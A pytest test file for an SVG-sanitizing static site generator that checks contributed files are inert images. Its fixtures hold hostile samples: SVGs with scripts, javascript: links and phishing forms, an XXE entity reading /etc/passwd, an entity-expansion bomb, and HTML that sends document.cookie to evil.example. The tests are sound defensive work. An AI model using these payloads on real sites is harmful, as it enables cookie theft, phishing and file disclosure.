"""No active files from contributors: only images, each what its name says, SVGs filtered.

Hostile files go into the fixture hub's contributor folders (the articles folder, partners/<slug>/);
`hubgen check` must name each one, `hubgen build` must refuse before touching the old site, and
what a build publishes is parsed back to prove nothing active is left in it.
"""

from __future__ import annotations

import os
import re
import shutil
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import py_svg_hush
import pytest
from hubkit import FIXTURES, HubDir, Site, static_server
from test_change import Repo

from hubgen.cli import main
from hubgen.load import svgsafe
from hubgen.load.svgsafe import MAX_DEPTH, SvgRefused, sanitize_svg

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
EVIL_SVG = (
    f'<svg {SVG} viewBox="0 0 10 10" onload="alert(1)">'
    "<script>alert(document.cookie)</script>"
    '<a href="javascript:alert(2)"><rect width="10" height="10" fill="#0f766e"/></a>'
    '<a xlink:href="https://phish.example/login"><circle r="2"/></a>'
    '<foreignObject width="10" height="10"><form xmlns="http://www.w3.org/1999/xhtml" '
    'action="https://phish.example/"><input name="password"/></form></foreignObject>'
    '<image href="https://tracker.example/pixel.png" width="1" height="1"/>'
    "<style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/f) }"
    "</style></svg>"
)
XXE_SVG = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f"<svg {SVG}><text>&xxe;</text></svg>"
)
BOMB_SVG = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f"<svg {SVG}><text>&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;</text></svg>"
)
LOGIN_HTML = (
    "<!doctype html><form action='https://phish.example/'><input name=password></form>"
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(24)
EVIL_WARNING = (
    "removed <script>, <foreignObject>, <form>, <input>, onload=, href= from {path} and made the "
    "links in <style> local when publishing it (SVGs are published without scripts, event "
    "handlers, links to other sites, external resources or editor data; remove these from the "
    "file to publish it as it is)"
)


def add_image_to_cash(hub: HubDir, markdown: str) -> None:
    hub.edit("content/articles/2025-07-01-cash.md", "Plan ahead.", f"Plan ahead.\n\n{markdown}")


# -- hubgen check: only images -------------------------------------------------------------------


def test_files_that_are_no_image_are_errors_naming_them(minihub: HubDir) -> None:
    minihub.write("content/articles/login.html", LOGIN_HTML)
    minihub.write("content/articles/images/x.js", "alert(1)\n")
    minihub.write("content/articles/images/style.css", "body { display: none }\n")
    minihub.write("content/articles/images/README", "no extension\n")
    minihub.write("content/articles/notes.markdown", "# Rendered by MkDocs, unchecked\n")
    minihub.write("partners/acme/feed.xml", "<rss/>\n")
    minihub.write("partners/acme/brochure.pdf", "%PDF-1.4\n")
    # Not the contributors' to publish, nor published: hidden files and the hub's own assets.
    minihub.write("content/articles/images/.gitkeep", "")
    minihub.write("content/assets/extra.css", "a { color: red }\n")
    allowed = ".svg, .png, .jpg, .jpeg, .gif, .webp, .avif"
    others = "pages, scripts and other files are for the hub's organisers to add"
    assert minihub.problems_text() == [
        f"content/articles/images/README:1:1: error: only images may be added to "
        f"content/articles/images/: {allowed} (remove README; {others})",
        f"content/articles/images/style.css:1:1: error: only images may be added to "
        f"content/articles/images/: {allowed} (remove style.css; {others})",
        f"content/articles/images/x.js:1:1: error: only images may be added to "
        f"content/articles/images/: {allowed} (remove x.js; {others})",
        f"content/articles/login.html:1:1: error: only images may be added to "
        f"content/articles/: {allowed} (remove login.html; {others})",
        "content/articles/notes.markdown:1:1: error: only images and .md files may be added to "
        "content/articles/ (articles end in .md: rename it to notes.md)",
        f"partners/acme/brochure.pdf:1:1: error: only images may be added to partners/acme/: "
        f"{allowed} (remove brochure.pdf; {others})",
        f"partners/acme/feed.xml:1:1: error: only images may be added to partners/acme/: "
        f"{allowed} (remove feed.xml; {others})",
    ]


def test_an_image_must_hold_the_type_its_name_says(minihub: HubDir) -> None:
    minihub.write("content/articles/images/chart.png", LOGIN_HTML)
    (minihub.root / "content/articles/images/photo.jpg").write_bytes(PNG)
    (minihub.root / "content/articles/images/ok.PNG").write_bytes(PNG)
    (minihub.root / "content/articles/images/anim.gif").write_bytes(b"GIF89a" + bytes(10))
    (minihub.root / "partners/acme/team.webp").write_bytes(b"RIFF\0\0\0\0WEBPVP8 " + bytes(8))
    (minihub.root / "partners/acme/new.avif").write_bytes(
        b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(8)
    )
    (minihub.root / "partners/acme/old.jpeg").write_bytes(b"\xff\xd8\xff\xe0" + bytes(8))
    (minihub.root / "partners/acme/blank.webp").write_bytes(bytes(40))
    minihub.write("partners/acme/pic.svg", LOGIN_HTML)
    assert minihub.problems_text() == [
        "content/articles/images/chart.png:1:1: error: its content is text (HTML or XML), not a "
        "PNG image (export the image again as .svg, .png, .jpg, .jpeg, .gif, .webp, .avif, or "
        "remove chart.png)",
        "content/articles/images/photo.jpg:1:1: error: its content is a PNG image, not JPEG "
        "(rename it to photo.png)",
        "partners/acme/blank.webp:1:1: error: its content is not a WebP image (export the image "
        "again as .svg, .png, .jpg, .jpeg, .gif, .webp, .avif, or remove blank.webp)",
        "partners/acme/pic.svg:1:1: error: is not a valid SVG image: syntax error at line 1, "
        "column 1 (export it again from your drawing program as a plain SVG file)",
    ]


# -- hubgen check: SVGs ----------------------------------------------------------------------------


def test_check_warns_about_what_publishing_removes_from_an_svg(minihub: HubDir) -> None:
    minihub.write("partners/acme/logo.svg", EVIL_SVG)
    minihub.write("content/articles/images/evil.svg", EVIL_SVG)
    _, problems = minihub.load()
    assert not problems.errors
    assert [p.as_text() for p in problems] == [
        "content/articles/images/evil.svg:1:1: warning: "
        + EVIL_WARNING.format(path="content/articles/images/evil.svg"),
        "partners/acme/logo.svg:1:1: warning: "
        + EVIL_WARNING.format(path="partners/acme/logo.svg"),
    ]


def test_check_and_build_refuse_svgs_that_cannot_be_made_safe(
    minihub: HubDir, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    minihub.write("content/articles/images/xxe.svg", XXE_SVG)
    minihub.write("content/articles/images/bomb.svg", BOMB_SVG)
    deep = "<g>" * (MAX_DEPTH + 1) + "</g>" * (MAX_DEPTH + 1)
    minihub.write("content/articles/images/deep.svg", f"<svg {SVG}>{deep}</svg>")
    minihub.write("content/articles/images/page.svg", "<html><body>hi</body></html>")
    minihub.write("content/articles/images/js.svg", f"<svg {SVG}><set to='javascript:x'/></svg>")
    doctype = "export it again from your drawing program as a plain SVG file, without a DOCTYPE"
    assert minihub.problems_text() == [
        "content/articles/images/bomb.svg:1:1: error: declares the XML entity 'a' in its DOCTYPE; "
        f"hubgen does not read entities ({doctype})",
        "content/articles/images/deep.svg:1:1: error: nests elements more than 100 deep "
        "(simplify the drawing (ungroup) or export it again from your drawing program as a plain "
        "SVG file)",
        "content/articles/images/js.svg:1:1: error: still holds active content after filtering: "
        "to=javascript:x (remove it from the file)",
        "content/articles/images/page.svg:1:1: error: is not an SVG image: its root element is "
        '<html> outside the SVG namespace (none) (the file must start with <svg xmlns="http://'
        'www.w3.org/2000/svg" …>)',
        "content/articles/images/xxe.svg:1:1: error: declares the XML entity 'xxe' in its "
        f"DOCTYPE; hubgen does not read entities ({doctype})",
    ]
    # The build refuses before MkDocs cleans the site: the old one is left as it was.
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("old site")
    code = main(["build", "-q", "-f", str(minihub.root / "mkdocs.yml"), "-d", str(site)])
    assert code != 0
    assert "content/articles/images/xxe.svg:1:1: error" in capsys.readouterr().out
    assert (site / "index.html").read_text() == "old site"


def test_build_refuses_a_page_in_the_articles_folder(
    minihub: HubDir, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    minihub.write("content/articles/login.html", LOGIN_HTML)
    site = tmp_path / "site"
    code = main(["build", "-q", "-f", str(minihub.root / "mkdocs.yml"), "-d", str(site)])
    assert code != 0
    assert "content/articles/login.html:1:1: error: only images may be added" in (
        capsys.readouterr().out
    )
    assert not (site / "articles/login.html").exists()


@pytest.mark.parametrize(
    "svg",
    [
        f"<svg {SVG}><script>alert(1)</script></svg>",
        f'<svg {SVG}><rect onclick="alert(1)" ONLOAD="x" width="1"/></svg>',
        f'<svg {SVG}><a xlink:href="java&#x09;script:alert(1)"><text>x</text></a></svg>',
        f'<svg {SVG}><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
        f'<svg {SVG}><image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/></svg>',
        f"<svg {SVG}><style>@\\69mport 'https://evil.example/x.css';</style></svg>",
        f'<svg {SVG}><rect style="fill: url(https://evil.example/f)" width="1"/></svg>',
        f'<?xml-stylesheet href="https://evil.example/x.css"?><svg {SVG}/>',
        f'<svg {SVG}><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://e.example"/></svg>',
        f'<svg {SVG}><animate attributeName="href" values="javascript:alert(1)"/></svg>',
        f'<svg {SVG}><set attributeName="onclick" to="alert(1)"/><rect width="1"/></svg>',
        f'<svg {SVG}><image href="//evil.example/x.png"/><image href="\\\\evil.example/y"/></svg>',
        f'<svg {SVG} xml:base="https://evil.example/"><image href="x.png"/></svg>',
    ],
)
def test_filtered_svgs_have_nothing_active_left(svg: str) -> None:
    try:
        safe = sanitize_svg(svg.encode())
    except SvgRefused:
        return  # refusing is safe too; what is published must be inert
    assert_inert(safe.data)
    assert safe.removed or safe.changed


def test_a_clean_svg_is_published_as_drawn() -> None:
    drawing = (
        f'<svg {SVG} viewBox="0 0 64 64" role="img"><title>Acme</title><defs>'
        '<linearGradient id="g"><stop offset="0" stop-color="#0f766e"/></linearGradient></defs>'
        '<rect width="64" height="64" fill="url(#g)"/><use xlink:href="#g"/>'
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
        '<text x="32" y="40" style="fill:#fff">AA</text></svg>'
    )
    safe = sanitize_svg(drawing.encode())
    assert (safe.removed, safe.changed) == ((), ())
    root = ET.fromstring(safe.data)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert root.get("viewBox") == "0 0 64 64"
    assert root.find("{http://www.w3.org/2000/svg}text").text == "AA"  # type: ignore[union-attr]
    image = root.find("{http://www.w3.org/2000/svg}image")
    assert image is not None and image.get("href", "").startswith("data:image/png;base64,")


# -- the built site ------------------------------------------------------------------------------


def assert_inert(data: bytes) -> None:
    """Parse a published SVG and fail on anything that could run, load or link elsewhere."""
    assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data
    root = ET.fromstring(data)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    for element in root.iter():
        local = element.tag.rsplit("}", 1)[-1]
        assert local not in {"script", "foreignObject", "iframe", "object", "embed"}, local
        assert element.tag.startswith("{http://www.w3.org/2000/svg}"), element.tag
        for name, value in element.attrib.items():
            attribute = name.rsplit("}", 1)[-1]
            assert not attribute.lower().startswith("on"), name
            squashed = "".join(value.split()).lower()
            assert "javascript:" not in squashed, (name, value)
            if attribute in ("href", "src"):
                assert not value.startswith(("//", "\\\\", "/\\")), value  # another host
                assert value.startswith(("#", "data:image/png", "/")) or ":" not in value, value
            assert attribute != "base", name  # xml:base would move every relative link
            if attribute == "attributeName":
                assert "href" not in value and not value.startswith("on"), value
        for css in (element.text or "" if local == "style" else "", element.get("style", "")):
            squashed = "".join(css.split()).lower()
            assert "@import" not in squashed, css
            assert not re.search(r"url\(['\"]?[a-z][a-z0-9+.-]*:", squashed), css  # no scheme


def test_the_site_publishes_only_filtered_images(
    minihub: HubDir, build_site: Callable[[Path], Site]
) -> None:
    minihub.write("partners/acme/logo.svg", EVIL_SVG)
    minihub.write("partners/acme/jane.svg", EVIL_SVG.replace("#0f766e", "#123456"))
    minihub.write("content/articles/images/evil.svg", EVIL_SVG)
    minihub.write("content/articles/images/unused.svg", EVIL_SVG)
    (minihub.root / "content/articles/images/chart.png").write_bytes(PNG)
    add_image_to_cash(minihub, "![Evil](images/evil.svg) ![Chart](images/chart.png)")
    site = build_site(minihub.root / "mkdocs.yml")
    published = sorted(
        p.relative_to(site.root).as_posix()
        for p in site.root.rglob("*")
        if p.is_file() and "assets" not in p.parts and p.suffix not in (".html", ".xml", ".gz")
        and not p.name.endswith((".json", ".atom", ".rss", ".txt"))
    )  # fmt: skip
    # Only images come from the contributors' folders; QR codes and social cards are hubgen's.
    contributed = [p for p in published if p.startswith(("articles/", "partners/"))]
    assert [p for p in contributed if "/share/" not in p and not p.endswith("/card.png")] == [
        "articles/images/chart.png",
        "articles/images/cover.svg",
        "articles/images/evil.svg",
        "articles/images/unused.svg",
        "partners/acme/jane.svg",
        "partners/acme/logo.svg",
        "partners/brightside/logo.svg",
    ]
    for path in contributed:
        if path.endswith(".svg"):
            assert_inert((site.root / path).read_bytes())
    logo = ET.fromstring((site.root / "partners/acme/logo.svg").read_bytes())
    assert logo.find(".//{http://www.w3.org/2000/svg}rect") is not None  # the drawing stays
    assert (site.root / "articles/images/chart.png").read_bytes() == PNG
    # The pages link the filtered files where the partner put them.
    page = site.page("articles/cash/")
    sources = [img.get("src") for img in page.select("article img")]
    assert "../images/evil.svg" in sources


def test_a_build_filters_each_svg_once(
    minihub: HubDir, build_site: Callable[[Path], Site], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The contributed-files check and publishing both need the filtered SVG: one filter each.
    svgsafe._sanitize_cached.cache_clear()
    filtered: list[bytes] = []
    real = py_svg_hush.filter_svg

    def counting(data: bytes, **options: Any) -> bytes:
        filtered.append(data)
        return real(data, **options)

    monkeypatch.setattr(py_svg_hush, "filter_svg", counting)
    site = build_site(minihub.root / "mkdocs.yml")
    assert site.exists("partners/acme/logo.svg")
    assert filtered, "the build filtered no SVG: the test would prove nothing"
    assert len(filtered) == len(set(filtered))


def test_files_that_appear_after_the_check_are_still_not_published(
    minihub: HubDir, tmp_path: Path
) -> None:
    """Defence in depth: MkDocs lists the docs folder itself, after hubgen loaded the hub; what
    it finds in the contributors' folders then is filtered again, not copied as it is."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    from hubgen.load.loader import load_hub
    from hubgen.mkdocs_adapter.plugin import HubgenPlugin

    site = tmp_path / "site"
    config = load_config(config_file=str(minihub.root / "mkdocs.yml"), site_dir=str(site))
    plugin = config.plugins["hubgen"]
    assert isinstance(plugin, HubgenPlugin)
    hub, problems = load_hub(plugin.settings(config))
    assert not problems.errors
    plugin.preloaded = hub  # as `hubgen build` does: loaded and checked once, before MkDocs runs
    minihub.write("content/articles/login.html", LOGIN_HTML)
    minihub.write("content/articles/images/x.js", "alert(1)\n")
    minihub.write("content/articles/images/fake.png", LOGIN_HTML)
    minihub.write("content/articles/images/late.svg", EVIL_SVG)
    minihub.write("content/articles/images/broken.svg", XXE_SVG)
    minihub.write("partners/acme/logo.svg", EVIL_SVG)
    config.plugins.on_startup(command="build", dirty=False)
    build(config)
    assert (site / "articles/cash/index.html").is_file()
    for name in ("login.html", "images/x.js", "images/fake.png", "images/broken.svg"):
        assert not (site / "articles" / name).exists(), name
    assert_inert((site / "articles/images/late.svg").read_bytes())
    assert_inert((site / "partners/acme/logo.svg").read_bytes())


def test_a_changed_svg_is_filtered_again_on_a_cached_rebuild(
    minihub: HubDir, build_site: Callable[[Path], Site]
) -> None:
    config = minihub.root / "mkdocs.yml"
    add_image_to_cash(minihub, "![Chart](images/chart.svg)")
    minihub.write("content/articles/images/chart.svg", f'<svg {SVG}><rect fill="#111111"/></svg>')
    first = build_site(config)
    assert b"#111111" in (first.root / "articles/images/chart.svg").read_bytes()
    minihub.write("content/articles/images/chart.svg", EVIL_SVG.replace("#0f766e", "#222222"))
    minihub.write("partners/acme/logo.svg", EVIL_SVG)
    second = build_site(config)  # the same site folder and page cache as the first build
    assert second.root == first.root
    chart = (second.root / "articles/images/chart.svg").read_bytes()
    assert b"#222222" in chart
    assert_inert(chart)
    assert_inert((second.root / "partners/acme/logo.svg").read_bytes())


# -- the ownership gate, in a real git repository ------------------------------------------------

BY = "this change is by partner 'acme'"


@pytest.fixture
def images_repo(tmp_path: Path) -> Repo:
    """The fixture hub with shared images used by acme's, brightside's and the hub's pages."""
    root = tmp_path / "hub"
    shutil.copytree(FIXTURES / "minihub", root, ignore=shutil.ignore_patterns(".hubgen-cache"))
    hub = Repo(root)
    images = "content/articles/images"
    for name in ("mine.png", "theirs.png", "both.png", "hub.png", "unused.png", "my chart.png"):
        (root / images / name).write_bytes(PNG)
    add_image_to_cash(
        hub, "![a](images/mine.png) ![b](images/both.png) ![c](images/my%20chart.png)"
    )
    hub.edit(  # brightside's article shows two of them, one in raw HTML
        "content/articles/2099-01-01-future.md",
        "Not yet.",
        'Not yet.\n\n![t](images/theirs.png) <img src="images/both.png" alt="">',
    )
    hub.write("content/privacy.md", "# Privacy\n\n![h](articles/images/hub.png)\n")
    hub.write(".github/CODEOWNERS", "* @claire-organiser\n")
    hub.git("init", "-q", "-b", "main")
    hub.commit("base")
    hub.git("checkout", "-q", "-b", "change")
    return hub


def gate(repo: Repo, capsys: pytest.CaptureFixture[str]) -> list[str]:
    repo.commit()
    repo.check("--author-of-change", "acme", "--base", "main", "--ownership-only")
    return capsys.readouterr().out.splitlines()


def test_a_partner_may_replace_or_delete_images_only_its_articles_use(
    images_repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    images = images_repo.root / "content/articles/images"
    (images / "mine.png").write_bytes(PNG + b"new")
    (images / "my chart.png").unlink()
    (images / "cover.svg").unlink()  # the cover of acme's tax-basics article
    (images / "brand-new.png").write_bytes(PNG)
    assert gate(images_repo, capsys) == []


def test_a_partner_may_not_touch_images_other_pages_use(
    images_repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    images = images_repo.root / "content/articles/images"
    (images / "theirs.png").write_bytes(PNG + b"defaced")
    (images / "both.png").unlink()
    (images / "hub.png").write_bytes(PNG + b"x")
    (images / "unused.png").unlink()
    assert gate(images_repo, capsys) == [
        "content/articles/images/both.png:1:1: error: ownership: changes or deletes a shared "
        "image that other pages use on main: 2099-01-01-future.md (by brightside); "
        f"{BY} (add a new file with another name instead)",
        "content/articles/images/hub.png:1:1: error: ownership: changes or deletes a shared image "
        f"that other pages use on main: content/privacy.md (a hub page); {BY} (add a new file "
        "with another name instead)",
        "content/articles/images/theirs.png:1:1: error: ownership: changes or deletes a shared "
        "image that other pages use on main: 2099-01-01-future.md (by brightside); "
        f"{BY} (add a new file with another name instead)",
        "content/articles/images/unused.png:1:1: error: ownership: changes or deletes a shared "
        f"file that no page uses on main; {BY} (ask the hub's organisers to change or delete it, "
        "or add a new file with another name)",
    ]


def test_the_gate_refuses_files_that_are_no_image(
    images_repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    images_repo.write("content/articles/login.html", LOGIN_HTML)
    images_repo.write("content/articles/images/x.js", "alert(1)\n")
    images_repo.write("content/articles/images/mine.png.html", LOGIN_HTML)
    images_repo.write("partners/acme/widget.js", "alert(1)\n")
    images_repo.write("partners/acme/about.md", "# About\n")  # Markdown is not this rule's
    (images_repo.root / "partners/acme/new.png").write_bytes(PNG)
    allowed = ".svg, .png, .jpg, .jpeg, .gif, .webp, .avif"
    assert gate(images_repo, capsys) == [
        f"content/articles/images/mine.png.html:1:1: error: ownership: only images may be added "
        f"to the articles folder ({allowed}); {BY} (remove mine.png.html)",
        f"content/articles/images/x.js:1:1: error: ownership: only images may be added to the "
        f"articles folder ({allowed}); {BY} (remove x.js)",
        f"content/articles/login.html:1:1: error: ownership: only images may be added to the "
        f"articles folder ({allowed}); {BY} (remove login.html)",
        f"partners/acme/widget.js:1:1: error: ownership: only images may be added to "
        f"partners/acme/ ({allowed}); {BY} (remove widget.js)",
    ]


def test_an_organiser_may_change_any_shared_image(
    images_repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    (images_repo.root / "content/articles/images/theirs.png").unlink()
    images_repo.edit("content/articles/2099-01-01-future.md", "![t](images/theirs.png) ", "")
    images_repo.commit()
    args = ("--author-of-change", "@claire-organiser", "--base", "main", "--ownership-only")
    assert images_repo.check(*args) == 0
    assert capsys.readouterr().out == ""


def test_the_demo_hub_has_no_file_it_would_not_publish() -> None:
    """The repository's own hub passes: every contributed file is an image, every SVG clean."""
    root = Path(__file__).parent.parent
    for folder in (root / "content/articles", root / "partners"):
        for top, _, names in os.walk(folder):
            for name in names:
                path = Path(top, name)
                if path.suffix == ".svg":
                    safe = sanitize_svg(path.read_bytes())
                    assert (safe.removed, safe.changed) == ((), ()), path


# -- in a real browser ---------------------------------------------------------------------------


def test_a_filtered_svg_opened_on_its_own_runs_and_loads_nothing(
    minihub: HubDir, build_site: Callable[[Path], Site], browser: Any
) -> None:
    """The attack: a link to the partner's logo itself, opened as a top-level document on the
    hub's origin. The raw file runs its script there (the control); the published one does not,
    loads nothing from elsewhere, and still draws as an <img>."""
    minihub.write("partners/acme/logo.svg", EVIL_SVG)
    site = build_site(minihub.root / "mkdocs.yml")
    (site.root / "raw.svg").write_text(EVIL_SVG)
    (site.root / "show.html").write_text('<img src="partners/acme/logo.svg" alt="">')
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    try:
        with static_server(site.root) as url:
            page.goto(url + "raw.svg")
            page.wait_for_load_state("load")
            assert dialogs, "the unfiltered SVG should have run its script (the test's control)"
            dialogs.clear()
            requests.clear()
            page.goto(url + "partners/acme/logo.svg")
            page.wait_for_load_state("load")
            page.mouse.click(5, 5)  # on the <rect>, which sat inside a javascript: link
            page.wait_for_load_state("load")
            assert dialogs == []
            assert page.url == url + "partners/acme/logo.svg"
            assert [r for r in requests if not r.startswith(url)] == []
            page.goto(url + "show.html")
            page.wait_for_load_state("load")
            drawn = page.eval_on_selector("img", "img => img.complete && img.naturalWidth > 0")
            assert drawn, "the filtered logo must still be an image the browser draws"
    finally:
        context.close()
